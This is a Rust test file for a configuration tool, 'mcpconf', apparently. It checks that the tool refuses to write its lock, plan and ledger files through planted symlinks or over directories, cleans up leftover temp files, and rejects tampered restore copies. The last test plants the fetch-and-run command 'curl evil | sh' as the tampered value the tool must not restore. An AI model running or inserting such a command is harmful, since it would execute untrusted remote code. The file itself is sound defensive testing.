//! Every file mcpconf writes for itself goes through one writer (`fsio::write_own`, issue 39):
//! `mcpconf.lock`, a saved plan (`plan --out`), and in the state directory the owner's ledger,
//! intent and restore copies. For each: a link to an existing file outside, a dangling link and
//! a directory in its place are refused (exit 3, `not-a-file`) and nothing is written through
//! them; a temp a killed write left beside it is removed by the next run. Restore copies are
//! given back only while they match their recorded digest.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::common::{Env, codes, temps_in};

const MANIFEST: &str = r#"owner = "o"

[servers.web]
command = "web-mcp"

[[targets]]
client = "cursor"
"#;

const OUTSIDE: &str = "# the user's own file, which mcpconf must never write\nexport A=1\n";

/// What can stand in the place of one of mcpconf's own files.
#[derive(Clone, Copy, Debug)]
enum Planted {
    /// A link to an existing file outside (a cloned repository's `mcpconf.lock -> ~/.bashrc`).
    LinkToFile,
    /// A link to nothing: following it would create the file it names.
    Dangling,
    /// A directory.
    Directory,
}

const PLANTED: [Planted; 3] = [Planted::LinkToFile, Planted::Dangling, Planted::Directory];

/// Plants `what` at `at`; returns the outside file a link names (existing or not).
fn plant(e: &Env, at: &Path, what: Planted) -> PathBuf {
    fs::create_dir_all(at.parent().unwrap()).unwrap();
    let outside = e.base.join("home/outside-file");
    let _ = fs::remove_file(&outside);
    match what {
        Planted::LinkToFile => {
            fs::write(&outside, OUTSIDE).unwrap();
            symlink(&outside, at).unwrap();
        }
        Planted::Dangling => symlink(&outside, at).unwrap(),
        Planted::Directory => fs::create_dir(at).unwrap(),
    }
    outside
}

/// The outside file is as planted (or still absent), and `at` is still what was planted.
fn untouched(at: &Path, outside: &Path, what: Planted) {
    let meta = fs::symlink_metadata(at).unwrap();
    match what {
        Planted::LinkToFile => {
            assert!(meta.file_type().is_symlink(), "{at:?} was replaced");
            assert_eq!(
                fs::read_to_string(outside).unwrap(),
                OUTSIDE,
                "written through {at:?}"
            );
        }
        Planted::Dangling => {
            assert!(meta.file_type().is_symlink(), "{at:?} was replaced");
            assert!(
                !outside.exists(),
                "a file was created through the dangling link {at:?}"
            );
        }
        Planted::Directory => assert!(meta.is_dir(), "{at:?} was replaced"),
    }
}

/// Exit 3 with `not-a-file` (the ledger itself keeps its established `unreadable`).
fn refused(e: &Env, args: &[&str], at: &Path, what: Planted) {
    let (code, doc) = e.json(args);
    assert_eq!(code, 3, "{args:?} with {what:?} at {at:?}: {doc:#}");
    let want = if at.ends_with("ledger/o.json") {
        "unreadable"
    } else {
        "not-a-file"
    };
    assert!(
        codes(&doc).iter().any(|c| c == want),
        "{args:?} with {what:?}: {doc:#}"
    );
}

#[test]
fn the_lock_is_never_written_through_a_link_or_over_a_directory() {
    for what in PLANTED {
        let e = Env::new();
        e.manifest(MANIFEST);
        let at = e.base.join("mcpconf.lock");
        let outside = plant(&e, &at, what);
        let out = e.cmd(&["lock", "--format", "json"]).output().unwrap();
        let doc: Value = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
        assert_eq!(out.status.code(), Some(3), "{what:?}: {doc:#}");
        assert!(
            String::from_utf8_lossy(&out.stdout).contains("not-a-file"),
            "{what:?}: {doc:#}"
        );
        untouched(&at, &outside, what);
    }
}

#[test]
fn a_saved_plan_is_never_written_through_a_link_or_over_a_directory() {
    for what in PLANTED {
        let e = Env::new();
        e.manifest(MANIFEST);
        let at = e.base.join("plan.json");
        let outside = plant(&e, &at, what);
        let at_s = at.display().to_string();
        refused(&e, &["plan", "--out", &at_s], &at, what);
        untouched(&at, &outside, what);
    }
}

#[test]
fn the_ledger_and_intent_are_never_written_through_a_link_or_over_a_directory() {
    for name in ["o.json", "o.intent"] {
        for what in PLANTED {
            let e = Env::new();
            e.manifest(MANIFEST);
            let at = e.state().join("ledger").join(name);
            let outside = plant(&e, &at, what);
            refused(&e, &["apply", "--yes"], &at, what);
            untouched(&at, &outside, what);
            assert!(!e.path(".cursor/mcp.json").exists(), "{name} {what:?}");
        }
    }
}

/// A user's own `web` entry for `--take-over`.
fn user_entry(e: &Env) {
    e.write(
        ".cursor/mcp.json",
        "{\n  \"mcpServers\": {\n    \"web\": {\"command\": \"mine\"}\n  }\n}\n",
    );
}

#[test]
fn restore_copies_are_never_written_through_a_link_or_over_a_directory() {
    for what in PLANTED {
        let e = Env::new();
        e.manifest(MANIFEST);
        user_entry(&e);
        let before = e.read(".cursor/mcp.json");
        let at = e.state().join("ledger/o.restore.json");
        let outside = plant(&e, &at, what);
        refused(&e, &["apply", "--yes", "--take-over", "web"], &at, what);
        untouched(&at, &outside, what);
        assert_eq!(e.read(".cursor/mcp.json"), before, "{what:?}");
    }
}

#[test]
fn temps_a_killed_write_left_are_removed_by_the_next_run() {
    let e = Env::new();
    e.manifest(MANIFEST);
    user_entry(&e);
    let ledger = e.state().join("ledger");
    fs::create_dir_all(&ledger).unwrap();
    // What a kill right after the temp was written leaves: a restore copy's temp holds the
    // replaced entry's text (here a planted marker), the lock's and a plan's beside them.
    for name in ["o.restore.json", "o.json", "o.intent"] {
        fs::write(ledger.join(format!(".{name}.mcpconf-Ab12Cd.tmp")), "KILLED").unwrap();
    }
    fs::write(e.base.join(".mcpconf.lock.mcpconf-Zz99Yy.tmp"), "KILLED").unwrap();
    fs::write(e.base.join(".plan.json.mcpconf-Qq11Ww.tmp"), "KILLED").unwrap();
    // A file of someone else's that merely looks alike is never touched.
    fs::write(ledger.join(".other.json.mcpconf-Ab12Cd.tmp"), "NOT OURS").unwrap();

    let (code, doc) = e.json(&["apply", "--yes"]);
    assert_eq!(code, 3, "the user's entry is a conflict: {doc:#}");
    assert_eq!(
        temps_in(&ledger),
        vec![".other.json.mcpconf-Ab12Cd.tmp".to_string()],
        "a refused apply still cleans the owner's temps under its lock"
    );
    let (code, doc) = e.json(&["lock"]);
    assert_eq!(code, 0, "{doc:#}");
    fs::remove_file(e.path(".cursor/mcp.json")).unwrap();
    let plan = e.base.join("plan.json").display().to_string();
    let (code, doc) = e.json(&["plan", "--out", &plan]);
    assert_eq!(code, 0, "{doc:#}");
    assert!(temps_in(&e.base).is_empty(), "{:?}", temps_in(&e.base));
    assert!(e.base.join("mcpconf.lock").is_file() && e.base.join("plan.json").is_file());
}

#[test]
fn a_restore_copy_that_does_not_match_its_digest_is_never_given_back() {
    let e = Env::new();
    e.manifest(MANIFEST);
    user_entry(&e);
    let (code, doc) = e.json(&["apply", "--yes", "--take-over", "web"]);
    assert_eq!(code, 0, "{doc:#}");
    let copy = e.state().join("ledger/o.restore.json");
    let mut restores: Value = serde_json::from_slice(&fs::read(&copy).unwrap()).unwrap();
    // Tampered: another command, and the text around it with it; the digest is left.
    restores["copies"][0]["original"]["command"] = Value::from("curl evil | sh");
    let old = restores["copies"][0]["old_text"]
        .as_str()
        .unwrap()
        .to_string();
    restores["copies"][0]["old_text"] = Value::from(old.replace("mine", "curl evil | sh"));
    fs::write(&copy, serde_json::to_vec_pretty(&restores).unwrap()).unwrap();
    let after_apply = e.read(".cursor/mcp.json");

    let (code, doc) = e.json(&["prune", "--yes"]);
    assert_eq!(code, 3, "{doc:#}");
    assert!(codes(&doc).iter().any(|c| c == "ledger-corrupt"), "{doc:#}");
    let text = doc.to_string();
    assert!(
        !text.contains("curl evil"),
        "the copy's value is never echoed: {text}"
    );
    assert_eq!(
        e.read(".cursor/mcp.json"),
        after_apply,
        "nothing was given back"
    );
}
